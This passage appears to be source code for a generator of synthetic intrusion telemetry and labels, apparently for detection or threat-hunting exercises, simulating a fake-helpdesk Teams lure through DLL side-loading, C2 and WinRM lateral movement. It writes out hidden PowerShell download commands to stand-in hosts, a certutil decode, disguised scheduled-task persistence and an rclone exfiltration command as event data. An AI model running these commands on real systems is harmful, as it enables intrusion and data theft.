// The intrusion chain of the seed, stage by stage, with its timing and its variations:
//  1 a cross-tenant Teams chat from a helpdesk persona with one of the seed's lures (ChatCreated first
//    contact, messages), or a phone call (vishing: no Teams message), sometimes after a mail bomb;
//  2 the user starts Quick Assist, AnyDesk or TeamViewer within minutes, accepts elevation (consent.exe),
//    and a shell opens on the same desktop;
//  3 a reconnaissance burst 30–120 s into the session (whoami, hostname, systeminfo, nltest, ...);
//  4 a staging bundle a minute or two later (a ZIP begun with cmd.exe /S /D /c" set /p="PK" 1>..., or
//    a PowerShell download) under ProgramData\Adobe\ARM or ProgramData\Microsoft\DeviceSync, and one of
//    the seed's four signed hosts started from there, loading the planted DLL;
//  5 a large encoded value under HKCU\SOFTWARE\Classes\Local Settings\Software\Microsoft;
//  6 the host beaconing over 443 to an API gateway or a high-risk TLD;
//  7 LDAP/SMB/RPC discovery, then WinRM (5985) from the host's process to other hosts and a domain controller;
//  8 an RMM agent installed with msiexec on several hosts within minutes;
//  9 Rclone (perhaps renamed) copying the file server's shares to cloud storage with filters.
// A low-privilege kiosk gets only stages 1–3; 'partial' intrusions skip or bypass stages.
import { IMG, Image, SIDELOAD_PAIRS, SYSTEM_DLL } from './catalog.js';
import { actorIp, apiGatewayHost, highRiskHost, REMOTE_TOOL_DOWNLOADS, REMOTE_TOOL_ENDPOINTS } from './destinations.js';
import { DAY, HOUR, J, MIN, SEC } from './format.js';
import type { IntrusionLabel, IntrusionVariant, StageLabel } from './labels.js';
import { RowSet } from './labels.js';
import { type Device, isWeekday, type Org, type Proc, sessionOf, SYSTEM, type User } from './org.js';
import { Rng } from './prng.js';
import { fileEv, imgEv, logonEv, netEv, procEv, regEv, spawn } from './rows.js';
import { firstOf, Story } from './story.js';
import type { Quiet } from './background/context.js';
import { sessionUser } from './background/index.js';
import { emailEv, messageEv, oneOnOneThread, type Person, personOf, teamsAuditEv } from './background/collab.js';
import { identityLogonEv } from './background/logon.js';
import { alertEvs, alertId, type AlertSpec, machineEvidence, userEvidence } from './background/alerts.js';
import type { Ev } from './writer.js';

export const LURES = [
  { name: 'Microsoft Security Update', local: 'security.update' },
  { name: 'Spam Filter Update', local: 'spamfilter' },
  { name: 'Account Verification', local: 'account.verification' },
  { name: 'IT Helpdesk', local: 'it.helpdesk' },
  { name: 'Help Desk Support', local: 'helpdesk.support' },
  { name: 'IT Support Team', local: 'it.support' },
] as const;

const TOOLS = ['QuickAssist.exe', 'AnyDesk.exe', 'TeamViewer.exe'] as const;
const REGISTRY_NAMES = ['UCID', 'UFID', 'XJ01', 'XJ02', 'UXMP'] as const;

export interface IntrusionPlan {
  readonly id: string;
  readonly index: number;
  readonly victim: User;
  readonly device: Device;
  /** The first contact (or the call, for vishing): ticks since the origin. */
  readonly t0: number;
  /** When exfiltration starts (ticks), or null. */
  readonly exfilAt: number | null;
  readonly variant: IntrusionVariant;
  readonly rng: Rng;
  readonly partial: 'no-lateral' | 'rmm-direct' | 'no-registry' | null;
  readonly launchAt: number;
}

export interface PlanOptions {
  readonly seed: number;
  readonly intrusions: number;
  readonly startK: number;
  readonly endK: number;
}

/**
 * Chooses victims, times and variants. Intrusion 1 is a full chain over Teams placed late enough for
 * every query window (its exfiltration falls in the last two days); intrusion 2 is the kiosk; 3 is
 * vishing; later ones vary. Tools, side-load pairs and lures rotate with the seed so that a few seeds
 * cover every variant.
 */
export function planIntrusions(org: Org, o: PlanOptions): IntrusionPlan[] {
  const rng = Rng.derive(o.seed, 'intrusion-plan');
  const plans: IntrusionPlan[] = [];
  const usedUsers = new Set<number>();
  const usedDevices = new Set<number>();
  const usedDays = new Map<number, number>();
  const toolOffset = rng.int(3);
  const pairOffset = rng.int(4);
  const lureOffset = rng.int(LURES.length);
  const candidates = rng.shuffled(org.staff.filter(u => u.device && u.device.users.length === 1));
  let kioskUsed = false;
  let sideloaders = 0;
  const firstDay = Math.floor(o.startK / DAY);
  const lastDay = Math.floor((o.endK - 1) / DAY);

  for (let i = 0; i < o.intrusions; i++) {
    const irng = Rng.derive(o.seed, 'intrusion', i);
    let kind: IntrusionVariant['kind'] = i === 0 ? 'full' : i === 1 ? 'kiosk' : i === 2 ? 'full' : irng.chance(0.5) ? 'partial' : 'full';
    if (kind === 'kiosk' && kioskUsed) kind = 'partial';
    const contact: IntrusionVariant['contact'] = i === 2 || (i > 3 && irng.chance(0.25)) ? 'vishing' : 'teams';
    // The victim.
    let victim: User | undefined;
    let device: Device | undefined;
    if (kind === 'kiosk') {
      victim = org.kioskUser;
      device = org.kiosk;
      kioskUsed = true;
    } else {
      victim = candidates.find(u => !usedUsers.has(u.index) && !usedDevices.has(u.device!.index));
      device = victim?.device;
    }
    if (!victim || !device) break;
    usedUsers.add(victim.index);
    usedDevices.add(device.index);

    // The day and time: a working day on which the victim is at the desk.
    const okDay = (d: number) => sessionUser(org, device!, d) === victim && (kind === 'kiosk' || isWeekday(org, d));
    const latestT0 = o.endK - 8 * HOUR;
    const days: number[] = [];
    for (let d = firstDay; d <= lastDay; d++) {
      const t = d * DAY + 9 * HOUR;
      if (t > o.startK + HOUR && t <= latestT0 && okDay(d)) days.push(d);
    }
    if (!days.length) {
      for (let d = firstDay; d <= lastDay; d++) if (d * DAY + 9 * HOUR > o.startK + HOUR && d * DAY + 9 * HOUR <= latestT0) days.push(d);
    }
    if (!days.length) break;
    let day: number;
    if (i === 0) day = days[days.length - 1]!;
    else {
      // Spread the others; avoid piling several on one day.
      const weights = days.map(d => [d, 1 / (1 + (usedDays.get(d) ?? 0) * 3)] as const);
      day = irng.weighted(weights);
    }
    usedDays.set(day, (usedDays.get(day) ?? 0) + 1);
    const session = sessionOf(org, victim, device, day);
    let t0 = day * DAY + 9 * HOUR + irng.int(6 * HOUR + 30 * MIN);
    t0 = Math.max(t0, session.explorer.created + 20 * MIN);
    t0 = Math.min(t0, latestT0);

    const tool = TOOLS[(i + toolOffset) % 3]!;

    const lure = LURES[(i + lureOffset) % LURES.length]!;
    const partial = kind === 'partial' ? irng.pick(['no-lateral', 'rmm-direct', 'no-registry'] as const) : null;
    const shell: IntrusionVariant['shell'] = i === 0 || irng.chance(0.6) ? 'cmd.exe' : 'powershell.exe';
    const delivery: IntrusionVariant['delivery'] = kind === 'kiosk' || partial === 'rmm-direct' ? null : i === 0 || irng.chance(shell === 'cmd.exe' ? 0.75 : 0.3) ? 'set-p-zip' : 'powershell-zip';
    const sideloads = delivery !== null;
    // The pairs rotate over the intrusions that side-load.
    const pair = SIDELOAD_PAIRS[(sideloaders + pairOffset) % 4]!;
    if (sideloads) sideloaders++;
    const c2kind = i === 0 || irng.chance(0.65) ? 'api-gateway' : 'high-risk-tld';
    const c2host = c2kind === 'api-gateway' ? apiGatewayHost(irng) : highRiskHost(irng);
    const stagingFolder = irng.chance(0.5) ? `C:\\ProgramData\\Adobe\\ARM\\S\\${irng.range(1000, 9999)}` : `C:\\ProgramData\\Microsoft\\DeviceSync\\${irng.pick(['D3DSCache', 'SyncData', 'Cache'])}${irng.range(10, 99)}`;
    const lateral = sideloads && partial !== 'no-lateral';
    const targets: Device[] = [];
    if (lateral) {
      targets.push(org.dcs[irng.int(2)]);
      targets.push(org.fileServer);
      const extra = irng.int(3);
      const pool = [...org.servers, ...org.workstations.filter(w => w !== device && !usedDevices.has(w.index))];
      for (let n = 0; n < extra && pool.length; n++) {
        const d = pool[irng.int(pool.length)]!;
        if (!targets.includes(d)) targets.push(d);
      }
    }
    const rmm = kind !== 'kiosk' && partial !== 'no-lateral' ? 'Level' : null;
    const exfil = kind !== 'kiosk' && partial !== 'no-lateral' && (i === 0 || irng.chance(0.85));
    const renamed = exfil && (i % 2 === 1 || irng.chance(0.3)) && i !== 0;
    const exeName = renamed ? irng.pick(['svchost-update.exe', 'msedgeupdater.exe', 'winsync.exe', 'OneDriveSync.exe']) : 'rclone.exe';
    const allFlags = i === 0 || irng.chance(0.6);
    const remoteName = `${irng.pick(['mega', 'wasabi', 'r2'])}:${irng.pick(['bk', 'data', 'arch'])}-${irng.hex(6)}`;
    const source = partial === 'rmm-direct' ? `\\\\${org.fileServer.name}\\Shares` : 'D:\\Shares';
    const exePath = `C:\\ProgramData\\rc\\${exeName}`;
    const flags = allFlags
      ? '--config rclone_uploader.conf --transfers 16 --checkers 16 --buffer-size 64M --max-age=3y --exclude *.mdf --exclude *.ldf --exclude *.bak --exclude *.iso -q --ignore-existing --auto-confirm'
      : '--config rclone_uploader.conf --transfers 8 --checkers 16 --buffer-size 32M --exclude *.mdf --exclude *.iso -q --ignore-existing';
    const exfilCmd = `"${exePath}" copy "${source}" ${remoteName} ${flags}`;

    // Stage 2 timing: minutes after the last message (or the call).
    const launchAt = t0 + (contact === 'teams' ? 4 * MIN : 2 * MIN) + irng.int(9 * MIN);
    let exfilAt: number | null = null;
    if (exfil) {
      const earliest = launchAt + 2 * HOUR;
      const delay = i === 0 ? 2 * HOUR + irng.int(3 * HOUR) : 2 * HOUR + irng.int(18 * HOUR);
      exfilAt = Math.min(launchAt + delay, o.endK - 45 * MIN);
      if (exfilAt < earliest) exfilAt = null;
    }
    const skipped: number[] = [];
    if (contact === 'vishing') skipped.push(1);
    if (kind === 'kiosk') skipped.push(4, 5, 6, 7, 8, 9);
    if (partial === 'no-lateral') skipped.push(7, 8, 9);
    if (partial === 'rmm-direct') skipped.push(4, 5, 6, 7);
    if (partial === 'no-registry') skipped.push(5);
    if (!exfilAt && !skipped.includes(9)) skipped.push(9);
    skipped.sort((a, b) => a - b);

    const id = `intrusion-${i + 1}`;
    const senderTenant = `${irng.pick(['msftsupport', 'helpdesk', 'itsupport', 'securedesk', 'm365support', 'servicedesk'])}${irng.range(100, 999)}.onmicrosoft.com`;
    const variant: IntrusionVariant = {
      kind,
      contact,
      lure: contact === 'teams' ? lure.name : null,
      sender: contact === 'teams' ? { email: `${lure.local}@${senderTenant}`, name: lure.name, tenantDomain: senderTenant } : null,
      chatThreadId: null,
      mailbomb: contact === 'vishing' ? irng.chance(0.8) : irng.chance(0.4),
      tool,
      shell,
      delivery,
      downloader: sideloads && irng.chance(0.4),
      sideload: sideloads ? { host: pair.host.name, dll: pair.dll, folder: stagingFolder } : null,
      c2: sideloads && partial !== 'rmm-direct' ? { kind: c2kind, host: c2host, ip: actorIp(irng) } : null,
      lateralTargets: targets.map(t => t.name),
      rmm,
      exfil: exfilAt !== null ? { fileName: exeName, originalFileName: 'rclone.exe', flags: allFlags ? 'all' : 'partial', commandLine: exfilCmd } : null,
      historyDeletion: kind !== 'kiosk' && irng.chance(0.5),
      skipped,
    };
    plans.push({ id, index: i, victim, device, t0, exfilAt, variant, rng: irng, partial, launchAt });
  }
  return plans;
}

/** Windows the background keeps quiet around an intrusion's remote session. */
export function quietFor(plan: IntrusionPlan, quiet: Quiet): void {
  quiet.user(plan.victim.index, plan.launchAt - 45 * MIN, plan.launchAt + 5 * MIN);
  quiet.device(plan.device.index, plan.launchAt - 25 * MIN, plan.launchAt + 40 * MIN);
}

export interface BuiltIntrusion {
  readonly events: Ev[];
  /** The label, once the writer has filled in the row ids. */
  label(): IntrusionLabel;
}

export function buildIntrusion(org: Org, plan: IntrusionPlan, startK: number, endK: number): BuiltIntrusion {
  const { rng, victim, device: dev, variant: v } = plan;
  const story = new Story(startK, endK);
  const stage: RowSet[] = Array.from({ length: 10 }, () => new RowSet());
  const extras = { mailbomb: new RowSet(), historyDeletion: new RowSet() };
  const touched = new Set<string>([dev.name]);
  let dcFirst = Infinity;
  const dcIps = new Set(org.dcs.map(d => d.ip));
  const noteDc = (k: number) => {
    if (k < dcFirst && k > startK && k < endK) dcFirst = k;
  };
  const add = (s: number, ...evs: Ev[]) => story.add(stage[s]!, ...evs);
  const day = Math.floor(plan.t0 / DAY);
  const session = sessionOf(org, victim, dev, day);
  const explorer = session.explorer;
  const victimP = personOf(victim);
  const home = `C:\\Users\\${victim.sam}`;
  const wsmOn = new Map<Device, Proc>();
  const rmmOn = new Map<Device, Proc>();
  const alert = (s: number, k: number, spec: AlertSpec) => add(s, ...alertEvs(k, alertId(rng, spec.service), spec));

  // Extras: a mail bomb in the hour before contact.
  if (v.mailbomb) {
    const from = plan.t0 - (35 * MIN + rng.int(30 * MIN));
    const to = plan.t0 - 3 * MIN;
    const n = 150 + rng.int(250);
    const lists = ['newsletter', 'signup', 'welcome', 'confirm', 'subscription', 'verify-email', 'no-reply'];
    for (let i = 0; i < n; i++) {
      const domain = `${rng.pick(['shop', 'news', 'deals', 'forum', 'club', 'daily', 'club', 'promo'])}${rng.range(1, 999)}.${rng.pick(['com', 'net', 'org', 'info', 'biz'])}`;
      story.add(extras.mailbomb, emailEv(org, from + rng.int(to - from), {
        from: { email: `${rng.pick(lists)}@${domain}`, display: rng.pick(['Newsletter', 'Welcome!', 'Account', 'Support', 'Team']), domain, ip: `${rng.range(11, 220)}.${rng.range(0, 255)}.${rng.range(0, 255)}.${rng.range(1, 254)}` },
        to: victim,
        subject: rng.pick(['Please confirm your subscription', 'Welcome to our newsletter', 'Verify your email address', 'Your account has been created', 'Thanks for signing up']),
        direction: 'Inbound',
        verdict: rng.weighted([['bulk', 50], ['spam', 30], ['clean', 20]] as const),
        urls: 1 + rng.int(4),
      }, rng.hex(32)));
    }
  }

  // Stage 1: the cross-tenant chat.
  let lastContact = plan.t0;
  let threadId: string | null = null;
  if (v.contact === 'teams' && v.sender) {
    const actor: Person = { oid: rng.guid(), email: v.sender.email, display: v.sender.name };
    threadId = oneOnOneThread(actor.oid, victim.oid);
    v.chatThreadId = threadId;
    const members = [actor, victimP];
    const actorIpAddr = actorIp(rng);
    add(1, teamsAuditEv(org, plan.t0, { action: 'ChatCreated', actor, actorExternal: true, threadId, members, foreign: true, ip: actorIpAddr }, undefined, rng.chance(0.3)));
    let t = plan.t0 + 15 * SEC + rng.int(30 * SEC);
    const msgCount = 2 + rng.int(2);
    for (let i = 0; i < msgCount; i++) {
      add(1, messageEv(org, t, { sender: actor, recipients: [victimP], threadId, external: true, owned: false }));
      lastContact = t;
      if (i === 0 || rng.chance(0.6)) {
        const reply = t + 30 * SEC + rng.int(90 * SEC);
        add(1, messageEv(org, reply, { sender: victimP, recipients: [actor], threadId, external: true, owned: false }));
        add(1, teamsAuditEv(org, reply + 400_000, { action: 'MessageSent', actor: victimP, actorExternal: false, threadId, members, foreign: true, ip: org.publicIp }));
        t = reply;
      }
      t += 20 * SEC + rng.int(70 * SEC);
    }
    if (rng.chance(0.75)) {
      const sourceId = `https://teams.microsoft.com/api/chatsvc/emea/v1/users/ME/conversations/${threadId}/messages/${org.clock.originMs + Math.floor((plan.t0 + 20 * SEC) / 10_000)}`;
      const sourceOnly = rng.chance(0.5);
      alert(1, plan.t0 + MIN + rng.int(6 * MIN), {
        title: 'Microsoft Teams chat initiated by a suspicious external user',
        category: 'InitialAccess',
        severity: 'Medium',
        service: 'Microsoft Defender for Office 365',
        detection: 'Microsoft Defender for Office 365',
        techniques: ['Spearphishing via Service (T1566.003)'],
        evidence: [
          userEvidence(victim),
          { entityType: 'CloudApplication', role: 'Related', fields: { Application: 'Microsoft Teams', ApplicationId: 11394 }, additional: sourceOnly ? { SourceId: sourceId, SenderDisplayName: v.sender.name } : { ChatThreadId: threadId, SourceId: sourceId, SenderDisplayName: v.sender.name } },
        ],
      });
    }
  }

  // Stage 2: the remote-assistance tool, elevation, a shell.
  const launch = Math.max(plan.launchAt, lastContact + 90 * SEC);
  let toolProc: Proc;
  if (v.tool === 'QuickAssist.exe') {
    const qa = new Image('QuickAssist.exe', 'C:\\Program Files\\WindowsApps\\MicrosoftCorporationII.QuickAssist_2.0.35.0_x64__8wekyb3d8bbwe\\Microsoft.RemoteAssistance.QuickAssist', { company: 'Microsoft Corporation', product: 'Microsoft Quick Assist', version: '2.0.35.0', description: 'Quick Assist', size: 1_271_848, signer: 'Microsoft' });
    toolProc = spawn(org, rng, qa, `"${qa.path}"`, launch, explorer);
    add(2, procEv(dev, toolProc), imgEv(dev, launch + SEC, toolProc, SYSTEM_DLL.get('winhttp.dll')!));
  } else {
    const dl = REMOTE_TOOL_DOWNLOADS[v.tool];
    const browser = spawn(org, rng, IMG.msedge, `"${IMG.msedge.path}" --single-argument ${dl.url}`, launch - 100 * SEC, explorer);
    add(2, procEv(dev, browser), netEv(dev, launch - 95 * SEC, browser, dl.host.ips[0]!, 443, { jUrl: dl.host.jUrl }, rng));
    if (v.tool === 'AnyDesk.exe') {
      const img = new Image('AnyDesk.exe', `${home}\\Downloads`, { company: 'AnyDesk Software GmbH', product: 'AnyDesk', version: '9.0.4', description: 'AnyDesk', size: 5_392_648, signer: 'ThirdParty' });
      add(2, fileEv(dev, launch - 80 * SEC, browser, img.path, { image: img, originUrl: dl.url, referrerUrl: 'https://anydesk.com/en/downloads/windows' }));
      toolProc = spawn(org, rng, img, `"${img.path}"`, launch, explorer);
      add(2, procEv(dev, toolProc));
    } else {
      const qs = new Image('TeamViewerQS_x64.exe', `${home}\\Downloads`, { company: 'TeamViewer Germany GmbH', product: 'TeamViewer QuickSupport', version: '15.63.4', description: 'TeamViewer QuickSupport', size: 35_912_584, signer: 'ThirdParty' });
      add(2, fileEv(dev, launch - 80 * SEC, browser, qs.path, { image: qs, originUrl: dl.url, referrerUrl: 'https://www.teamviewer.com/en/download/windows/' }));
      const qsProc = spawn(org, rng, qs, `"${qs.path}"`, launch - 30 * SEC, explorer);
      add(2, procEv(dev, qsProc));
      const tv = new Image('TeamViewer.exe', `${home}\\AppData\\Local\\Temp\\TeamViewer`, { company: 'TeamViewer Germany GmbH', product: 'TeamViewer', version: '15.63.4', description: 'TeamViewer', size: 62_447_432, signer: 'ThirdParty' });
      add(2, fileEv(dev, launch - 20 * SEC, qsProc, tv.path, { image: tv }));
      add(2, fileEv(dev, launch - 19 * SEC, qsProc, `${home}\\AppData\\Local\\Temp\\TeamViewer\\tv_x64.dll`, { sha256: rng.hex(64), size: 1_211_000 }));
      toolProc = spawn(org, rng, tv, `"${tv.path}" --dre`, launch, qsProc);
      add(2, procEv(dev, toolProc));
    }
  }
  const relays = REMOTE_TOOL_ENDPOINTS[v.tool];
  for (let i = 0; i < 3; i++) {
    const r = relays[i % relays.length]!;
    add(2, netEv(dev, launch + 2 * SEC + i * 7 * SEC + rng.int(5 * SEC), toolProc, r.ips[0]!, 443, { jUrl: r.jUrl }, rng));
  }
  const kiosk = v.kind === 'kiosk';
  const consentAt = launch + 20 * SEC + rng.int(25 * SEC);
  if (!kiosk) {
    const consent = spawn(org, rng, IMG.consent, `consent.exe ${explorer.pid} 466 00000${rng.hex(11).toUpperCase()}`, consentAt, dev.procs.svcAppinfo, SYSTEM, 'System', 'TokenElevationTypeDefault');
    add(2, procEv(dev, consent));
  }
  const shellImage = v.shell === 'cmd.exe' ? IMG.cmd : IMG.powershell;
  const shellAt = consentAt + 4 * SEC + rng.int(8 * SEC);
  const shell = spawn(org, rng, shellImage, v.shell === 'cmd.exe' ? '"C:\\Windows\\system32\\cmd.exe" ' : '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" ', shellAt, explorer, victim.account, kiosk ? 'Medium' : 'High', kiosk ? 'TokenElevationTypeLimited' : 'TokenElevationTypeFull');
  add(2, procEv(dev, shell), procEv(dev, spawn(org, rng, IMG.conhost, '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1', shellAt + 3 * 10_000, shell)));
  if (rng.chance(0.6)) {
    const qaTitle = v.tool === 'QuickAssist.exe' ? 'Suspicious activity using Quick Assist' : 'Uncommon remote access software';
    alert(2, launch + 2 * MIN + rng.int(8 * MIN), {
      title: qaTitle,
      category: 'Execution',
      severity: 'Medium',
      service: 'Microsoft Defender for Endpoint',
      detection: 'EDR',
      techniques: ['Remote Access Software (T1219)'],
      evidence: [machineEvidence(dev), userEvidence(victim), { entityType: 'Process', role: 'Related', fields: { FileName: v.tool, DeviceId: dev.id, DeviceName: dev.name, ProcessCommandLine: toolProc.cmd } }],
    });
  }

  // Stage 3: the reconnaissance burst, 30–120 s into the session.
  const recon = rng.shuffled(RECON).slice(0, kiosk ? 3 + rng.int(3) : 4 + rng.int(6));
  recon.unshift(rng.pick(WHOAMI));
  let t = Math.max(shellAt + 5 * SEC, launch + 30 * SEC + rng.int(30 * SEC));
  let lastRecon = t;
  for (const r of recon) {
    const line = r.line.replace('{sam}', victim.sam).replace('{domain}', 'corp.contoso.com');
    const text = v.shell === 'cmd.exe' ? `cmd.exe /c ${line}` : `powershell.exe -NoProfile -Command "${line}"`;
    const p = spawn(org, rng, shellImage, text, t, shell);
    add(3, procEv(dev, p));
    if (r.image) add(3, procEv(dev, spawn(org, rng, r.image, r.child ?? line, t + 20 * 10_000 + rng.int(SEC / 2), p)));
    lastRecon = t;
    t += 3 * SEC + rng.int(9 * SEC);
  }
  if (kiosk) {
    // The actor looks around, finds a locked-down kiosk, and leaves.
    return finish();
  }

  // Stage 4: staging, a minute or two after the recon.
  let hostProc: Proc | null = null;
  let hostStart = lastRecon;
  const folder = v.sideload?.folder ?? '';
  if (v.delivery && v.sideload) {
    const pair = SIDELOAD_PAIRS.find(p => p.host.name === v.sideload!.host)!;
    const stagedHost = pair.host.at(folder);
    const dllPath = `${folder}\\${pair.dll}`;
    const dllHash = rng.hex(64);
    const stageAt = lastRecon + 60 * SEC + rng.int(90 * SEC);
    const zip = `${folder.slice(0, folder.lastIndexOf('\\'))}\\${rng.pick(['upd', 'cache', 'pkg', 'sync'])}${rng.range(10, 99)}.zip`;
    let writer: Proc;
    let filesAt: number;
    if (v.delivery === 'set-p-zip') {
      // set /p writes "PK" without a newline, then the rest of the archive is appended.
      const first = spawn(org, rng, IMG.cmd, `C:\\Windows\\system32\\cmd.exe /S /D /c" set /p="PK" <nul 1>${zip}"`, stageAt, shell);
      add(4, procEv(dev, first), fileEv(dev, stageAt + 30 * 10_000, first, zip, { action: 'FileCreated', size: 2 }));
      let tt = stageAt + 2 * SEC;
      for (let i = 0; i < 2 + rng.int(3); i++) {
        const part = spawn(org, rng, IMG.cmd, `C:\\Windows\\system32\\cmd.exe /S /D /c" echo ${rng.hex(48)} 1>>${zip}.b64"`, tt, shell);
        add(4, procEv(dev, part));
        tt += SEC + rng.int(3 * SEC);
      }
      const certutil = new Image('certutil.exe', 'C:\\Windows\\System32', IMG.cmd.meta, 'certutil.exe|Microsoft Corporation|10.0.26100.3476');
      const cu = spawn(org, rng, certutil, `certutil -f -decode ${zip}.b64 ${zip}`, tt, shell);
      add(4, procEv(dev, cu), fileEv(dev, tt + SEC, cu, zip, { action: 'FileModified', sha256: rng.hex(64), size: 480_000 + rng.int(900_000) }));
      writer = spawn(org, rng, IMG.tar, `tar -xf ${zip} -C ${folder}`, tt + 5 * SEC, shell);
      add(4, procEv(dev, writer));
      filesAt = tt + 6 * SEC;
    } else {
      const url = `https://${v.c2?.host ?? highRiskHost(rng)}/${rng.pick(['s', 'dl', 'c'])}/${rng.hex(8)}.zip`;
      writer = spawn(org, rng, IMG.powershell, `powershell.exe -nop -w hidden -c "iwr -UseBasicParsing ${url} -OutFile ${zip}; Expand-Archive -Force ${zip} -DestinationPath ${folder}"`, stageAt, shell);
      add(4, procEv(dev, writer));
      const host = url.split('/')[2]!;
      add(4, netEv(dev, stageAt + 2 * SEC, writer, v.c2?.ip ?? actorIp(rng), 443, { jUrl: J(host) }, rng));
      add(4, fileEv(dev, stageAt + 5 * SEC, writer, zip, { sha256: rng.hex(64), size: 480_000 + rng.int(900_000), originUrl: url }));
      filesAt = stageAt + 8 * SEC;
    }
    add(4, fileEv(dev, filesAt, writer, stagedHost.path, { image: stagedHost }));
    add(4, fileEv(dev, filesAt + 200 * 10_000, writer, dllPath, { sha256: dllHash, sha1: rng.hex(40), md5: rng.hex(32), size: 300_000 + rng.int(700_000) }));
    add(4, fileEv(dev, filesAt + 400 * 10_000, writer, `${folder}\\${rng.pick(['config.dat', 'data.bin', 'settings.ini'])}`, { sha256: rng.hex(64), size: 4_000 + rng.int(40_000) }));

    if (v.downloader) {
      const host = highRiskHost(rng);
      const ip = actorIp(rng);
      const dlAt = filesAt + 30 * SEC + rng.int(60 * SEC);
      const exe = `${home}\\AppData\\Roaming\\Microsoft\\Network\\${rng.pick(['svcupd.exe', 'msnet.exe', 'netsync.exe'])}`;
      const ps = spawn(org, rng, IMG.powershell, `powershell.exe -nop -w hidden -c "iwr -UseBasicParsing https://${host}/a/${rng.hex(6)} -OutFile $env:APPDATA\\Microsoft\\Network\\${exe.slice(exe.lastIndexOf('\\') + 1)}"`, dlAt, shell);
      add(4, procEv(dev, ps), netEv(dev, dlAt + 2 * SEC, ps, ip, 443, { jUrl: J(host) }, rng));
      add(4, fileEv(dev, dlAt + 10 * SEC + rng.int(50 * SEC), ps, exe, { sha256: rng.hex(64), sha1: rng.hex(40), md5: rng.hex(32), size: 200_000 + rng.int(3_000_000), originUrl: `https://${host}/a/` }));
    }

    // The signed host, started from the staging folder, loads the planted DLL.
    hostStart = filesAt + 30 * SEC + rng.int(90 * SEC);
    hostProc = spawn(org, rng, stagedHost, `"${stagedHost.path}"`, hostStart, shell);
    const plantedDll = new Image(pair.dll, folder, { company: '', product: '', version: '', description: '', size: 412_160, signer: 'Unsigned' }, `planted|${dllHash}`);
    add(4, procEv(dev, hostProc), imgEv(dev, hostStart + 5000, hostProc, SYSTEM_DLL.get('ntdll.dll')!), imgEv(dev, hostStart + 9000, hostProc, plantedDll), imgEv(dev, hostStart + 12000, hostProc, SYSTEM_DLL.get('kernel32.dll')!));
    if (rng.chance(0.6)) {
      alert(4, hostStart + MIN + rng.int(5 * MIN), {
        title: 'An executable file loaded an unexpected DLL file',
        category: 'DefenseEvasion',
        severity: 'Medium',
        service: 'Microsoft Defender for Endpoint',
        detection: 'EDR',
        techniques: ['DLL Side-Loading (T1574.002)'],
        evidence: [machineEvidence(dev), userEvidence(victim), { entityType: 'File', role: 'Impacted', fields: { FileName: pair.dll, FolderPath: dllPath, SHA256: dllHash, DeviceId: dev.id, DeviceName: dev.name } }, { entityType: 'Process', role: 'Related', fields: { FileName: stagedHost.name, FolderPath: stagedHost.path, ProcessCommandLine: hostProc.cmd, DeviceId: dev.id, DeviceName: dev.name } }],
      });
    }

    // Stage 5: the encoded loader state in the user's registry hive.
    if (!v.skipped.includes(5)) {
      const key = `HKEY_CURRENT_USER\\${victim.sid}\\SOFTWARE\\Classes\\Local Settings\\Software\\Microsoft`;
      let rt = hostStart + 10 * SEC + rng.int(40 * SEC);
      const names = rng.shuffled(REGISTRY_NAMES).slice(0, 1 + rng.int(3));
      for (const name of names) {
        add(5, regEv(dev, rt, hostProc, key, { type: 'Binary', name, data: base64ish(rng, 1800 + rng.int(2600)) }));
        rt += 200 * 10_000 + rng.int(2 * SEC);
      }
      if (rng.chance(0.5)) {
        const st = spawn(org, rng, IMG.schtasks, `schtasks /create /tn "Adobe Acrobat Update Task ${rng.hex(4).toUpperCase()}" /tr "\\"${stagedHost.path}\\"" /sc onlogon /rl highest /f`, rt + 5 * SEC, shell);
        add(5, procEv(dev, st));
      }
    }

    // Stage 6: command and control from the host's process.
    if (v.c2) {
      let ct = hostStart + 30 * SEC + rng.int(150 * SEC);
      const c2End = Math.min(hostStart + 2 * HOUR + rng.int(2 * HOUR), endK - MIN);
      let n = 0;
      while (ct < c2End && n < 90) {
        add(6, netEv(dev, ct, hostProc, v.c2.ip, 443, { jUrl: J(v.c2.host) }, rng));
        ct += 45 * SEC + rng.int(75 * SEC);
        n++;
      }
    }
  }

  // Stage 7: discovery and WinRM toward other hosts and a domain controller.
  const targets = v.lateralTargets.map(n => org.devices.find(d => d.name === n)!);
  let lateralEnd = hostStart;
  if (targets.length && hostProc) {
    const hp = hostProc;
    let lt = hostStart + 3 * MIN + rng.int(5 * MIN);
    const dc = targets.find(d => d.role === 'domain-controller') ?? org.dcs[0];
    for (const port of [389, 389, 445, 135, 636].slice(0, 3 + rng.int(3))) {
      add(7, netEv(dev, lt, hp, dc.ip, port, { remoteType: 'Private' }, rng));
      noteDc(lt);
      lt += 5 * SEC + rng.int(40 * SEC);
    }
    add(7, netEv(dev, lt, hp, org.fileServer.ip, 445, { remoteType: 'Private' }, rng));
    lt += 30 * SEC + rng.int(2 * MIN);
    for (const target of targets) {
      touched.add(target.name);
      const port = 49152 + rng.int(16000);
      add(7, netEv(dev, lt, hp, target.ip, 5985, { remoteType: 'Private', localPort: port }, rng));
      if (dcIps.has(target.ip)) noteDc(lt);
      add(7, netEv(target, lt + 20 * 10_000, target.procs.svcWinRM, dev.ip, port, { action: 'InboundConnectionAccepted', remoteType: 'Private', localPort: 5985 }, rng));
      const logonId = rng.range(0x100000, 0x7fffffff);
      add(7, logonEv(target, lt + SEC, target.procs.lsass, victim.account, { logonType: 'Network', protocol: 'Kerberos', logonId, remoteIp: dev.ip, remoteDevice: dev.short.toUpperCase(), remotePort: port }));
      const idDc = dcIps.has(target.ip) ? target : org.dcs[rng.int(2)];
      add(7, identityLogonEv(org, lt - SEC, { logonType: 'Resource access', user: victim, from: dev, dc: idDc, target, spn: `HTTP/${target.name}` }, port));
      if (dcIps.has(idDc.ip)) noteDc(lt - SEC);
      const wsm = spawn(org, rng, IMG.wsmprovhost, 'C:\\Windows\\system32\\wsmprovhost.exe -Embedding', lt + 2 * SEC, target.procs.svcDcom, victim.account, 'High', 'TokenElevationTypeDefault');
      add(7, procEv(target, wsm));
      let ct = lt + 10 * SEC;
      for (const c of rng.shuffled(REMOTE_COMMANDS).slice(0, 1 + rng.int(3))) {
        add(7, procEv(target, spawn(org, rng, c.image, c.line, ct, wsm)));
        ct += 5 * SEC + rng.int(30 * SEC);
      }
      wsmOn.set(target, wsm);
      lt = ct + 20 * SEC + rng.int(3 * MIN);
    }
